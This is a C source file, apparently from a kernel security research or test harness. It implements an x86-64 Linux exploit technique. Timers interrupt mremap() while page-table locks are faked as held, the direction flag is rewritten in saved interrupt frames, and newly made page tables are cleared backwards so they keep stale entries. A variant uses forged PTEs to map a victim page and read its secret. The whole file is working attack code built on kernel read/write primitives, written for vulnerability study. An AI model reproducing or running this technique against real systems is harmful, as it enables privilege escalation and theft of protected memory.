// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on how a new table is cleared: by a string instruction, in a section, whose
 * direction is a flag. mremap() makes tables, and waits for the lock of one, which is
 * made to look held. A timer interrupts it there, ahead of any section, and its handler
 * waits for a lock as well. Meanwhile the flag is set on the stack. So each table that
 * is made then is cleared backwards: what it had before is in it, but for one entry.
 * Tables with entries come to the pool where an area is made to look shorter than it is.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define MOVER_CPU	1
#define HIDDEN		20		/* tables with an entry that nobody zaps */
#define STEPS		40		/* tables of each level that are made backwards */
#define SPARE		400		/* that are freed, so that all are */
#define HIDDEN_PART	0x61
#define OLD_PART	0x62
#define NEW_PART	0x63
#define DUMMY_PART	0x65
#define SPARE_PART	0x66
#define TABLES_PART	0x67
#define FILL_PART	0x68
#define FILL		1500		/* what is free next to tables of others */
#define TABLES		6144
#define GIB		(1UL << 30)
#define IN_PMD		(5 * PMD_SIZE)
#define IN_PTE		(8 * PAGE_SIZE)
#define VMA_END		8
#define TABLE_LOCK	40
#define FRAME_FLAGS	18
#define DF		0x400UL
#define FIRST		40000UL		/* microseconds from the start of mremap() */
#define SECOND		700000UL
#define EARLY		8000UL
#define HOLD		10000UL
#define SLOW_PATH	"native_queued_spin_lock_slowpath"
#define SLOW_SIZE	0x600
#define SPIN_LOCK	"_raw_spin_lock"
#define SPIN_SIZE	0x40
#define MARK		0x6261636b77617264UL

static struct {
	volatile bool ready, go, done;
	volatile uint64_t start;	/* nanoseconds */
	volatile uint64_t hidden[HIDDEN], table[HIDDEN], dummy[HIDDEN], page[HIDDEN];
	volatile int grown, in_block;
	volatile uint64_t moved;
	volatile pid_t pid;
	char text[SECRET_SIZE];
	volatile int found_pmd, found_pte, failed;
	volatile uint64_t at;
} *shared;

static bool grow;		/* the pool has what is hidden */
static int pipes[HIDDEN][2];

struct target {
	struct task task;
	pid_t pid;
	uint64_t signals, first, last, slow, spin;
	uint64_t set, clear;
	int changed;
};

static uint64_t now_ns(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000000UL + time.tv_nsec;
}

static void sleep_until(uint64_t when)
{
	while (now_ns() < when)
		usleep(500);
}

/* ---- the mover ---- */

static volatile char *map(uint64_t at, size_t size)
{
	void *region = mmap((void *)at, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS |
			    MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);

	return region == MAP_FAILED ? NULL : region;
}

/* A table of PMDs that leads to a huge page, and is freed as it is. */
static bool hide(int i)
{
	uint64_t base = user_room(HIDDEN_PART) + 2 * i * GIB, vma;
	volatile char *dummy = map(user_room(DUMMY_PART) + i * PMD_SIZE, PMD_SIZE), *huge;
	struct iovec part;
	struct slot slot;

	if (!dummy)
		return false;
	madvise((void *)dummy, PMD_SIZE, MADV_NOHUGEPAGE);
	dummy[0] = 1;
	kwalk((uint64_t)dummy, LEVEL_PTE, 0, &slot);
	shared->dummy[i] = slot.slot & -PAGE_SIZE;
	huge = map(base, 2 * PMD_SIZE);
	if (!huge)
		return false;
	madvise((void *)huge, 2 * PMD_SIZE, MADV_HUGEPAGE);
	*(volatile uint64_t *)(huge + PMD_SIZE) = MARK;
	*(volatile uint64_t *)(huge + PMD_SIZE + 8) = i;
	if (kwalk(base + PMD_SIZE, LEAF, 0, &slot) || slot.level != LEVEL_PMD)
		return false;
	shared->hidden[i] = slot.phys;
	shared->page[i] = slot.page;
	part.iov_base = (void *)(huge + PMD_SIZE);
	part.iov_len = PAGE_SIZE;
	if (pipe(pipes[i]) || vmsplice(pipes[i][1], &part, 1, 0) != (ssize_t)PAGE_SIZE)
		return false;
	shared->table[i] = slot.slot & -PAGE_SIZE;
	vma = find_vma(huge);
	if (!vma || kwrite64(vma + VMA_END, base + PMD_SIZE))
		return false;
	return !munmap((void *)huge, 2 * PMD_SIZE);
}

static void fill_spare(bool fill)
{
	volatile char *spare = (void *)user_room(SPARE_PART);
	int i;

	if (!fill) {
		munmap((void *)spare, SPARE * PMD_SIZE);
		return;
	}
	spare = sparse_region(user_room(SPARE_PART), SPARE, PROT_READ | PROT_WRITE);
	for (i = 0; spare && i < SPARE; i++)
		spare[i * PMD_SIZE] = 1;
}

static volatile uint64_t *forged;	/* a page of ours, twice */
static int memory;

static bool make_forged(void)
{
	int i;

	memory = memfd_create("forged", 0);
	if (memory < 0 || ftruncate(memory, 2 * PAGE_SIZE))
		return false;
	forged = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, PAGE_SIZE);
	if (forged == MAP_FAILED)
		return false;
	for (i = 0; i < 512; i++)
		forged[i] = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW;
	return true;
}

/* Tables of PTEs that lead to that page, with one that stays behind each. */
static bool make_hidden(int i)
{
	uint64_t base = user_room(HIDDEN_PART) + 2 * i * PMD_SIZE;
	volatile char *at, *dummy;
	struct slot slot;

	at = mmap((void *)base, 2 * PAGE_SIZE, PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_FIXED_NOREPLACE, memory, 0);
	if (at == MAP_FAILED)
		return false;
	at[PAGE_SIZE + 8] = at[PAGE_SIZE + 8];
	dummy = map(base + PMD_SIZE, PAGE_SIZE);
	if (!dummy)
		return false;
	dummy[0] = 1;
	kwalk((uint64_t)dummy, LEVEL_PTE, 0, &slot);
	shared->dummy[i] = slot.slot & -PAGE_SIZE;
	if (kwalk(base + PAGE_SIZE, LEVEL_PTE, 0, &slot) || !slot.value)
		return false;
	shared->hidden[i] = slot.phys;
	shared->table[i] = slot.slot & -PAGE_SIZE;
	return true;
}

/* They are freed as they are. */
static bool hide_forged(int i)
{
	uint64_t base = user_room(HIDDEN_PART) + 2 * i * PMD_SIZE;
	uint64_t vma = find_vma((void *)base);

	return vma && !kwrite64(vma + VMA_END, base + PAGE_SIZE) &&
	       !munmap((void *)base, 2 * PAGE_SIZE);
}

/* Where a new table leads to it as to a table: all that it maps is ours. */
static void look_forged(char *base)
{
	char text[SECRET_SIZE] = "";
	int i;

	for (i = 0; i < STEPS; i++) {
		memcpy(text, base + i * GIB + PMD_SIZE + victim_phys() % PAGE_SIZE, SECRET_SIZE - 1);
		if (!text[0])
			continue;
		shared->found_pmd++;
		shared->at = (uint64_t)base + i * GIB + PMD_SIZE;
		memcpy(shared->text, text, sizeof(text));
	}
}

static void arm(void)
{
	struct itimerspec second = { { 0, 0 }, { 0, SECOND * 1000 } };
	struct itimerval first = { { 0, 0 }, { 0, FIRST } };
	struct sigevent event = { .sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGALRM };
	timer_t timer;

	timer_create(CLOCK_MONOTONIC, &event, &timer);
	timer_settime(timer, 0, &second, NULL);
	setitimer(ITIMER_REAL, &first, NULL);
}

static void check(char *base)
{
	uint64_t value;
	int i;

	for (i = 0; i < STEPS; i++) {
		value = *(volatile uint64_t *)(base + i * GIB + PMD_SIZE);
		if (value == MARK) {
			shared->found_pmd++;
			shared->at = (uint64_t)(base + i * GIB + PMD_SIZE);
		}
		value = *(volatile uint64_t *)(base + i * GIB + IN_PMD + PAGE_SIZE);
		if (value == MARK)
			shared->found_pte++;
	}
}

static void move(void)
{
	size_t size = STEPS * GIB;
	volatile char *old = map(user_room(OLD_PART), size);
	char *new = (char *)user_room(NEW_PART) + PAGE_SIZE, *moved;
	int i;

	if (!old || (grow && !make_forged()))
		_exit(1);
	madvise((void *)old, size, MADV_NOHUGEPAGE);
	for (i = 0; i < STEPS; i++)
		old[i * GIB + IN_PMD + IN_PTE] = 1;
	if (grow) {
		for (i = 0; i < HIDDEN; i++)
			shared->failed += !make_hidden(i);
		for (i = 0; i < HIDDEN; i++)
			shared->failed += !hide_forged(i);
		fill_spare(true);
		fill_spare(false);
		sleep(2);
	} else {
		fill_spare(true);
		for (i = 0; i < HIDDEN; i++)
			shared->failed += !hide(i);
		fill_spare(false);
		sleep(2);
	}
	shared->ready = true;
	while (!shared->go)
		usleep(1000);
	shared->start = now_ns();
	arm();
	moved = mremap((void *)old, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, new);
	if (moved == new && grow)
		look_forged(new - PAGE_SIZE);
	else if (moved == new)
		check(new - PAGE_SIZE);
	else
		shared->failed += 1000 + errno;
	shared->moved = (uint64_t)moved;
	shared->done = true;
	for (;;)
		pause();
}

static pid_t start_mover(void)
{
	volatile char *fill;
	pid_t pid;
	int i;

	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid)
		return pid;
	stay_on_cpu(MOVER_CPU);
	heed_alarms();
	fill_spare(true);
	fill_spare(false);
	sleep(2);
	fill = sparse_region(user_room(FILL_PART), FILL, PROT_READ | PROT_WRITE);
	for (i = 0; fill && i < FILL; i++)
		fill[i * PMD_SIZE] = 1;
	if (fork())
		for (;;)
			pause();
	shared->pid = getpid();
	move();
	_exit(1);
}

/* ---- who changes its flags ---- */

static uint64_t table_lock(pid_t pid, uint64_t addr)
{
	struct slot slot;

	if (kwalk(addr, LEVEL_PMD, pid, &slot) || !slot.value)
		return 0;
	return memory_map_base() + (slot.value & PTE_PFN_MASK) / PAGE_SIZE * STRUCT_PAGE + TABLE_LOCK;
}

static bool find_target(struct target *target)
{
	uint64_t old = user_room(OLD_PART) + IN_PMD;

	target->slow = (ksymbol(SLOW_PATH) ?: ksymbol("queued_spin_lock_slowpath"));
	target->spin = ksymbol(SPIN_LOCK);
	if (ktask(target->pid, &target->task))
		return false;
	target->first = table_lock(target->pid, old);
	target->last = table_lock(target->pid, old + (STEPS - 1) * GIB);
	target->signals = find_signal_lock(&target->task);
	return target->first && target->last && target->signals;
}

static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct target *target = data;
	uint64_t ip = frame[FRAME_IP];

	if (ip - target->slow >= SLOW_SIZE && ip - target->spin >= SPIN_SIZE)
		return;
	kwrite64(at + FRAME_FLAGS * 8, (frame[FRAME_FLAGS] | target->set) & ~target->clear);
	target->changed++;
}

static void change_flags(struct target *target, uint64_t when, uint64_t set, uint64_t clear,
			 uint64_t lock)
{
	sleep_until(when - EARLY * 1000);
	set_lock(target->signals, true);
	sleep_until(when + HOLD * 1000);
	target->set = set;
	target->clear = clear;
	find_frames(&target->task, 0, -1, change_frame, target);
	set_lock(target->signals, false);
	usleep(2000);
	set_lock(lock, false);
}

static enum outcome clear_backwards(void)
{
	struct target target = { 0 };
	unsigned int tries;
	int first;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!is_protected())
		return vdso_text();
	stay_on_cpu(0);
	target.pid = start_mover();
	while (!shared->ready)
		usleep(1000);
	target.pid = shared->pid;
	if (shared->failed || !find_target(&target))
		return broken("no huge page, no lock or no table: %d", shared->failed);
	for (tries = 0; tries < HIDDEN; tries++)
		fprintf(stderr, "# hidden %lx %lx in %lx (dummy %lx), now %lx\n", shared->hidden[tries], shared->page[tries],
			shared->table[tries], shared->dummy[tries],
			kread64(shared->table[tries] + 8));
	set_lock(target.first, true);
	set_lock(target.last, true);
	shared->go = true;
	while (!shared->start)
		;
	change_flags(&target, shared->start + FIRST * 1000, DF, 0, target.first);
	first = target.changed;
	fprintf(stderr, "# %d flags set, the mover goes on\n", first);
	change_flags(&target, shared->start + SECOND * 1000, 0, DF, target.last);
	for (tries = 0; tries < 300 && !shared->done; tries++)
		usleep(10000);
	for (tries = 0; tries < HIDDEN; tries++) {
		uint8_t byte = 0;

		kread(frame_at((shared->table[tries] - direct_map_base()) / PAGE_SIZE), &byte, 1);
		fprintf(stderr, "# table %lx: frame %x, %lx %lx %lx\n", shared->table[tries], byte,
			kread64(shared->table[tries]), kread64(shared->table[tries] + 8),
			kread64(shared->table[tries] + 16));
	}
	for (tries = 0; tries < STEPS; tries += 3) {
		struct slot slot;

		int err = kwalk(user_room(NEW_PART) + tries * GIB + IN_PMD, LEVEL_PMD, target.pid, &slot);

			fprintf(stderr, "# walk %d level %d ", err, slot.level);
			fprintf(stderr, "# new %d: %lx\n", tries, slot.slot & -PAGE_SIZE);
	}
	fprintf(stderr, "# failed %d, moved to %lx\n", shared->failed, shared->moved);
	fprintf(stderr, "# grown %d in %d: %s\n", shared->grown, shared->in_block, shared->text);
	fprintf(stderr, "# done %d, flags changed %d and %d, found %d by PMDs and %d by PTEs, at %lx\n",
		shared->done, first, target.changed - first, shared->found_pmd, shared->found_pte,
		shared->at);
	if (!first)
		return broken("no frame was found");
	if (grow)
		return judge_secret(shared->text, 0);
	if (!shared->found_pmd && !shared->found_pte)
		return lost("no table had what it had before");
	return won("%d new tables of PMDs and %d of PTEs map pages by entries that nobody set",
		   shared->found_pmd, shared->found_pte);
}

enum outcome backwards(void)
{
	return clear_backwards();
}

enum outcome backwards_pool(void)
{
	grow = true;
	return clear_backwards();
}
#else
enum outcome backwards(void)
{
	return skipped("x86-64 only");
}

enum outcome backwards_pool(void)
{
	return skipped("x86-64 only");
}
#endif
